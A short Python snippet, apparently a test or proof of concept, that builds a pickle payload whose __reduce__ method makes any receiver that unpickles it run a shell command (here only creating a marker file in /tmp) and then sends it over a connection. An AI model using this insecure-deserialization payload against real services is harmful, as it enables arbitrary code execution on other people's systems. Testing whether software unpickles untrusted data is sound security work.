class Bomb:
    def __reduce__(self):
        import os

        return (os.system, ("touch /tmp/warmstart-hostile",))


import pickle

send(frame(pickle.dumps(Bomb())))
